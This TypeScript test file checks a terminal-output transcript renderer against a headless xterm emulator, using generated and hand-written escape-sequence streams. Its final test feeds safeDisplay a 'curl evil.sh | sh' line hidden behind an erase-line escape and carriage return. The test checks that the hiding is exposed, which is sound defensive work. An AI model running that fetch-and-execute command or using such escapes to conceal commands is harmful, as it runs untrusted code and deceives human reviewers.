// Differential test of the safe transcript (docs/TRANSCRIPT.md, client/transcript.ts)
// against a real terminal emulator, @xterm/headless: the same bytes, in the same random
// chunks, go to both, and the text of xterm's buffer must equal the transcript.
//
// The generated streams stay inside the part of the rules where the transcript claims to
// show what a terminal shows: one line at a time, no wrapping, narrow characters. Inputs
// left out on purpose, because TRANSCRIPT.md decides them differently from a terminal by
// design (or puts them out of scope):
//   - TAB: the transcript keeps one TAB cell (rule 3); a terminal moves to the next tab
//     stop and writes nothing.
//   - Wide characters (CJK, emoji): display width is out of scope; the transcript has one
//     cell per code point, xterm two cells per wide character.
//   - Combining marks (e.g. Cyrillic U+0483..U+0489): one cell each in the transcript,
//     joined to the previous cell by xterm.
//   - Bidi controls: removed by the transcript (rule 4), printed by xterm.
//   - Bare LF: the transcript starts the next line at column 0 (rule 3); a terminal without
//     CR keeps the column. PTY output has CR LF, which is what is generated.
//   - Lines reaching the terminal's width: xterm wraps, the transcript's line is unbounded;
//     the terminal is 500 columns wide and the cursor is kept below column 400.
//   - Invalid UTF-8, C1 controls (xterm executes NEL, U+0085, as a line end), DEL, CSI
//     sequences with a private marker or intermediate bytes (e.g. `CSI ? K`, DECSEL, which
//     xterm executes as an erase and rule 3 ignores), cursor addressing beyond the line
//     (CUP, scroll regions): handled by rule 1, rule 2 or the "every other sequence has no
//     effect" clause, not by a terminal's semantics.
//
// Comparison: xterm's lines from the first row down to the cursor's row (nothing scrolls
// out: the scrollback is large), each read with translateToString(true) and with trailing
// U+0020 removed (xterm keeps explicitly written trailing spaces), joined with "\n"; the
// rows below the cursor must be empty. That is exactly the transcript's shape: every
// finished line, then the current one, trailing spaces removed (rule 5).

import assert from "node:assert/strict";
import { test } from "node:test";
// @xterm/headless is CommonJS only (its "module" entry is not shipped): a default import
// gives its module.exports, from which Terminal is taken.
import xterm from "@xterm/headless";
import { Transcript } from "../../generated/typescript/src/transcript.js";
import { MAX_LINE_LENGTH, safeDisplay } from "../../generated/typescript/src/index.js";

const { Terminal } = xterm;

const COLS = 500;
/** The cursor (and so every printed cell) stays left of this column: nothing wraps. */
const LIMIT = 400;
const ROWS = 64;
/** Generated streams have at most this many line ends, so they fit on the screen. */
const MAX_LINES = 12;
const STREAMS = 600;
const SEED = 0x5eed_a11c;

// ---- deterministic PRNG (mulberry32)

class Rng {
  #s: number;
  constructor(seed: number) {
    this.#s = seed >>> 0;
  }
  next(): number {
    let t = (this.#s = (this.#s + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  /** An integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)] as T;
  }
}

// ---- running both renderers

/** Renders `chunks` with xterm: the lines down to the cursor's row, trailing spaces removed. */
async function viaXterm(chunks: readonly Uint8Array[]): Promise<string> {
  const term = new Terminal({ cols: COLS, rows: ROWS, scrollback: 10_000, allowProposedApi: true });
  try {
    await new Promise<void>((resolve) => {
      if (chunks.length === 0) {
        resolve();
        return;
      }
      chunks.forEach((c, i) => term.write(c, i === chunks.length - 1 ? resolve : undefined));
    });
    const buf = term.buffer.active;
    const last = buf.baseY + buf.cursorY;
    const lines: string[] = [];
    for (let y = 0; y < buf.length; y++) {
      const line = trimEnd(buf.getLine(y)?.translateToString(true) ?? "");
      if (y <= last) lines.push(line);
      else assert.equal(line, "", `xterm row ${y} below the cursor's row ${last} is not empty`);
    }
    return lines.join("\n");
  } finally {
    term.dispose();
  }
}

function viaTranscript(chunks: readonly Uint8Array[]): string {
  const t = new Transcript();
  for (const c of chunks) t.push(c);
  return t.text.split("\n").map(trimEnd).join("\n");
}

/** Removes trailing U+0020 only (rule 5). */
function trimEnd(s: string): string {
  let end = s.length;
  while (end > 0 && s.charCodeAt(end - 1) === 0x20) end--;
  return s.slice(0, end);
}

// ---- generated streams

/** Narrow, non-combining, assigned characters of 2, 3 and 4 UTF-8 bytes. */
const MULTIBYTE: readonly [number, number][] = [
  [0x00a0, 0x00ff], // Latin-1 supplement (NBSP and the soft hyphen are one cell in both)
  [0x0391, 0x03a1], // Greek capitals (U+03A2 is unassigned)
  [0x03a3, 0x03a9],
  [0x03b1, 0x03c9], // Greek small letters
  [0x0400, 0x0482], // Cyrillic, without the combining marks U+0483..U+0489
  [0x048a, 0x04ff],
  [0x2500, 0x257f], // box drawing (3 bytes)
  [0x2580, 0x259f], // block elements, as progress bars draw them (3 bytes)
  [0x1d400, 0x1d454], // mathematical bold and italic letters: 4 bytes, a surrogate pair, one cell
];

function sgr(rng: Rng): string {
  const one = (): string => {
    switch (rng.int(0, 9)) {
      case 0:
        return "";
      case 1:
        return "0";
      case 2:
        return String(rng.pick([1, 2, 3, 4, 5, 7, 8, 9, 21, 22, 23, 24, 27, 29, 39, 49]));
      case 3:
        return String(rng.int(30, 37));
      case 4:
        return String(rng.int(40, 47));
      case 5:
        return String(rng.pick([rng.int(90, 97), rng.int(100, 107)]));
      case 6:
        return `${rng.pick([38, 48, 58])};5;${rng.int(0, 255)}`;
      case 7:
        return `${rng.pick([38, 48])};2;${rng.int(0, 255)};${rng.int(0, 255)};${rng.int(0, 255)}`;
      case 8:
        // The ITU T.416 colon form: an ignored CSI sequence for the transcript, a colour for xterm.
        return rng.chance(0.5) ? `38:5:${rng.int(0, 255)}` : `48:2::${rng.int(0, 255)}:${rng.int(0, 255)}:${rng.int(0, 255)}`;
      default:
        return `${rng.int(30, 37)};${rng.int(40, 47)};1`;
    }
  };
  const params: string[] = [];
  const n = rng.int(1, 3);
  for (let i = 0; i < n; i++) params.push(one());
  return `\x1b[${params.join(";")}m`;
}

/** A parameter as written by programs: omitted, or a number, sometimes with leading zeros. */
function param(rng: Rng, n: number): string {
  return rng.chance(0.15) ? `0${n}` : String(n);
}

/** One stream of lines; the generator tracks the cursor column to stay below LIMIT. */
function generate(rng: Rng): string {
  let s = "";
  let col = 0;
  const lines = rng.int(0, MAX_LINES);
  const text = (max: number): void => {
    const room = LIMIT - 1 - col;
    const len = Math.min(rng.int(1, max), room);
    for (let i = 0; i < len; i++) {
      if (rng.chance(0.3)) {
        const [lo, hi] = rng.pick(MULTIBYTE);
        s += String.fromCodePoint(rng.int(lo, hi));
      } else {
        s += String.fromCharCode(rng.int(0x20, 0x7e));
      }
    }
    col += Math.max(len, 0);
  };
  for (let line = 0; line <= lines; line++) {
    const ops = rng.int(0, 14);
    for (let k = 0; k < ops; k++) {
      const r = rng.int(0, 99);
      if (r < 35) {
        text(rng.chance(0.8) ? 12 : 80);
      } else if (r < 47) {
        s += sgr(rng);
      } else if (r < 54) {
        s += "\r";
        col = 0;
      } else if (r < 61) {
        const n = rng.int(1, 4);
        s += "\b".repeat(n);
        col = Math.max(col - n, 0);
      } else if (r < 70) {
        s += `\x1b[${rng.pick(["", "0", "1", "2"])}K`;
      } else if (r < 78) {
        // CSI n G: 0 and the omitted parameter mean column 1.
        const n = rng.int(0, Math.min(LIMIT - 1, rng.chance(0.7) ? 30 : LIMIT - 1));
        s += rng.chance(0.1) ? "\x1b[G" : `\x1b[${param(rng, n)}G`;
        col = Math.max(n, 1) - 1;
      } else if (r < 86) {
        // CSI n D, also past column 0.
        const n = rng.int(0, 30);
        s += rng.chance(0.1) ? "\x1b[D" : `\x1b[${param(rng, n)}D`;
        col = Math.max(col - Math.max(n, 1), 0);
      } else if (r < 94) {
        // CSI n C, also past the last written cell, but not to LIMIT.
        const room = LIMIT - 1 - col;
        if (room < 1) continue;
        const n = rng.int(0, Math.min(room, 40));
        s += rng.chance(0.1) ? "\x1b[C" : `\x1b[${param(rng, n)}C`;
        col += Math.max(n, 1);
      } else {
        // A progress bar redrawn in place with CR or CSI 1 G.
        const width = rng.int(3, 30);
        const redraw = rng.pick(["\r", "\x1b[1G", "\x1b[G"]);
        for (let p = 0; p <= width; p += rng.int(1, width)) {
          s += `${redraw}[${"█".repeat(p)}${"░".repeat(width - p)}] ${p}/${width}`;
          if (rng.chance(0.3)) s += "\x1b[K";
        }
        // Each redraw starts at column 0 and is shorter than LIMIT.
        s += "\r";
        col = 0;
      }
    }
    if (line < lines) {
      s += "\r\n";
      col = 0;
    }
  }
  return s;
}

/** Splits `bytes` into chunks: whole, byte by byte, or at random places. */
function split(rng: Rng, bytes: Uint8Array): Uint8Array[] {
  const mode = rng.int(0, 9);
  if (mode === 0 || bytes.length === 0) return [bytes];
  const chunks: Uint8Array[] = [];
  const max = mode === 1 ? 1 : rng.pick([2, 3, 5, 8, 16, 64]);
  for (let i = 0; i < bytes.length; ) {
    const n = rng.int(1, max);
    chunks.push(bytes.subarray(i, i + n));
    i += n;
  }
  return chunks;
}

// ---- hand-written cases

const enc = new TextEncoder();
const bytesOf = (s: string): Uint8Array => enc.encode(s);

interface Case {
  name: string;
  chunks: Uint8Array[];
}

const EURO = bytesOf("€"); // E2 82 AC
const BOX = bytesOf("─"); // E2 94 80

const HAND: readonly Case[] = [
  { name: "progress bar redrawn with CR", chunks: [bytesOf("  0%\r 50%\r100%\r\ndone\r\n")] },
  { name: "shorter redraw with CR leaves the tail", chunks: [bytesOf("downloading 1234\rok\r\n")] },
  { name: "redraw with CR then erase to the end", chunks: [bytesOf("downloading 1234\rok\x1b[K\r\n")] },
  { name: "BS at column 0", chunks: [bytesOf("\b\b\bab\b\b\b\bX")] },
  { name: "BS then overwrite", chunks: [bytesOf("abc\b\bXY")] },
  { name: "BS does not erase", chunks: [bytesOf("abc\b")] },
  { name: "CSI 1 G redraw as Node's readline does", chunks: [bytesOf("> hel\x1b[1G\x1b[0K> hello\x1b[8G\r\n")] },
  { name: "CSI G without parameter and with 0", chunks: [bytesOf("abcdef\x1b[Gx\x1b[0Gy")] },
  { name: "CSI 0 D and CSI 0 C move one cell", chunks: [bytesOf("abcdef\x1b[0DX\x1b[0CY")] },
  { name: "CSI D past column 0", chunks: [bytesOf("abc\x1b[99DX")] },
  { name: "CSI C past the last written cell, then print", chunks: [bytesOf("ab\x1b[5Cx")] },
  { name: "CSI C past the end, nothing printed", chunks: [bytesOf("ab\x1b[5C\r\ncd")] },
  { name: "CSI G past the end, then print", chunks: [bytesOf("ab\x1b[10Gx")] },
  { name: "EL 0 after a cursor move left", chunks: [bytesOf("abcdef\x1b[3D\x1b[K")] },
  { name: "EL 0 explicit after CSI G", chunks: [bytesOf("abcdef\x1b[3G\x1b[0K")] },
  { name: "EL 1 after a cursor move left", chunks: [bytesOf("abcdef\x1b[3D\x1b[1K")] },
  { name: "EL 2 after a cursor move left, then print", chunks: [bytesOf("abcdef\x1b[3D\x1b[2Kx")] },
  { name: "EL 0 with the cursor beyond the end", chunks: [bytesOf("abc\x1b[5C\x1b[Kx")] },
  { name: "EL 1 with the cursor beyond the end", chunks: [bytesOf("abc\x1b[5C\x1b[1Kx")] },
  { name: "EL 1 at the last cell", chunks: [bytesOf("abc\x1b[D\x1b[1K")] },
  { name: "EL 1 at column 0", chunks: [bytesOf("abc\r\x1b[1K")] },
  { name: "EL 2 with the cursor beyond the end, then print", chunks: [bytesOf("abc\x1b[9G\x1b[2Kx")] },
  { name: "EL with another parameter than 0, 1, 2 has no effect", chunks: [bytesOf("abcdef\x1b[3D\x1b[3K\x1b[9K")] },
  { name: "EL and cursor moves use the first parameter only", chunks: [bytesOf("abcdef\x1b[2;5D\x1b[1;0KX\x1b[2;9GY")] },
  { name: "EL inside multi-byte text", chunks: [bytesOf("Привет мир\x1b[4D\x1b[1K")] },
  { name: "overwrite multi-byte with ASCII", chunks: [bytesOf("αβγδε\x1b[3GXY")] },
  { name: "SGR around text, erase with a background colour", chunks: [bytesOf("\x1b[1;31merror\x1b[0m: x\x1b[44m\x1b[3D\x1b[K\x1b[0m\r\n")] },
  { name: "256 and true colour SGR", chunks: [bytesOf("\x1b[38;5;208mA\x1b[48;2;1;2;3mB\x1b[38:2::9:8:7mC\x1b[mD")] },
  { name: "split 3-byte UTF-8 character, 1 + 2", chunks: [bytesOf("a"), EURO.subarray(0, 1), EURO.subarray(1), bytesOf("b")] },
  { name: "split 3-byte UTF-8 character, 2 + 1", chunks: [bytesOf("a"), EURO.subarray(0, 2), EURO.subarray(2), bytesOf("b")] },
  { name: "split 3-byte UTF-8 character, byte by byte", chunks: [BOX.subarray(0, 1), BOX.subarray(1, 2), BOX.subarray(2, 3)] },
  { name: "split 4-byte UTF-8 character, then overwritten", chunks: [bytesOf("𝐀𝐁").subarray(0, 6), bytesOf("𝐀𝐁").subarray(6), bytesOf("\x1b[2D𝐳")] },
  { name: "split 2-byte UTF-8 character", chunks: [bytesOf("x"), bytesOf("й").subarray(0, 1), bytesOf("й").subarray(1)] },
  { name: "split SGR and CSI G", chunks: [bytesOf("abc\x1b"), bytesOf("[3"), bytesOf("1mdef\x1b[2"), bytesOf("G"), bytesOf("Z")] },
  { name: "split CR LF", chunks: [bytesOf("one\r"), bytesOf("\ntwo\r"), bytesOf("\n")] },
  { name: "empty lines", chunks: [bytesOf("\r\n\r\na\r\n\r\n")] },
  { name: "box drawing progress line", chunks: [bytesOf("┌──┐\r\n│\x1b[32m██\x1b[0m│\r│░░\r\n└──┘")] },
  { name: "nothing", chunks: [] },
];

// ---- differences

/**
 * Streams where xterm and the transcript differ inside the generated domain, and the
 * transcript is the one that is wrong. Each stays here as a failing case until the
 * transcript (and TRANSCRIPT.md, and the vectors) are fixed; a listed case that stops
 * differing fails the test, so the list does not go stale.
 */
const KNOWN_DIFFERENCES: readonly (Case & { why: string })[] = [];

/** The chunks as JSON strings, or as hex when a chunk splits a UTF-8 character. */
function show(chunks: readonly Uint8Array[]): string {
  const strict = new TextDecoder("utf-8", { fatal: true });
  return chunks
    .map((c) => {
      try {
        return JSON.stringify(strict.decode(c));
      } catch {
        return `<${Array.from(c, (b) => b.toString(16).padStart(2, "0")).join(" ")}>`;
      }
    })
    .join(" + ");
}

const key = (chunks: readonly Uint8Array[]): string => chunks.map((c) => Array.from(c).join(",")).join("|");

test("the transcript shows what @xterm/headless shows, for one-line-at-a-time output", async () => {
  const known = new Set(KNOWN_DIFFERENCES.map((c) => key(c.chunks)));
  const cases: Case[] = [...HAND, ...KNOWN_DIFFERENCES];
  const rng = new Rng(SEED);
  for (let i = 0; i < STREAMS; i++) {
    const bytes = bytesOf(generate(rng));
    cases.push({ name: `generated #${i} (seed ${SEED.toString(16)})`, chunks: split(rng, bytes) });
  }

  const unexpected: string[] = [];
  const stillDiffering = new Set<string>();
  for (const c of cases) {
    const want = await viaXterm(c.chunks);
    const got = viaTranscript(c.chunks);
    if (got === want) continue;
    const k = key(c.chunks);
    if (known.has(k)) {
      stillDiffering.add(k);
      continue;
    }
    unexpected.push(`${c.name}: ${show(c.chunks)}\n  xterm:      ${JSON.stringify(want)}\n  transcript: ${JSON.stringify(got)}`);
  }

  console.log(
    `oracle: ${cases.length} streams compared with @xterm/headless (${HAND.length} hand-written, ${STREAMS} generated, ` +
      `${KNOWN_DIFFERENCES.length} known differences)`,
  );
  if (unexpected.length > 0) {
    assert.fail(`${unexpected.length} of ${cases.length} streams differ from xterm:\n${unexpected.slice(0, 10).join("\n")}`);
  }
  const fixed = KNOWN_DIFFERENCES.filter((c) => !stillDiffering.has(key(c.chunks))).map((c) => c.name);
  if (fixed.length > 0) assert.fail(`known differences that no longer differ, remove them from KNOWN_DIFFERENCES: ${fixed.join(", ")}`);
});

test("the package entry exports safeDisplay and the transcript's limits", () => {
  assert.equal(safeDisplay("curl evil.sh | sh\x1b[2K\rcargo test"), "curl evil.sh | sh\\u{1B}[2K\\rcargo test");
  assert.equal(MAX_LINE_LENGTH, 4096);
});
